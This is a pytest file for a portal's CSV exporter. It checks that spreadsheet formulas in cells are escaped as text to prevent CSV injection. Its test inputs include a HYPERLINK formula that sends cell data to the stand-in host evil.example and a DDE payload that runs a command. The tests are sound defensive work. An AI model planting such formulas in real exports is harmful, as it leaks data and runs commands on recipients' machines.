"""The one CSV writer: no cell reaches a spreadsheet as a formula (OWASP, CSV Injection)."""

import csv
import io

import pytest

from portal.exports import csv_text, safe_cell

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&B2,"Open CV")'


@pytest.mark.parametrize("typed", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed):
    assert safe_cell(typed) == "'" + typed
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[typed]]))))
    assert rows == [["name"], ["'" + typed]]


@pytest.mark.parametrize("value", ["Alice Applicant", "O'Neil", "a=b", "", 5, -3, 2.5, None])
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value
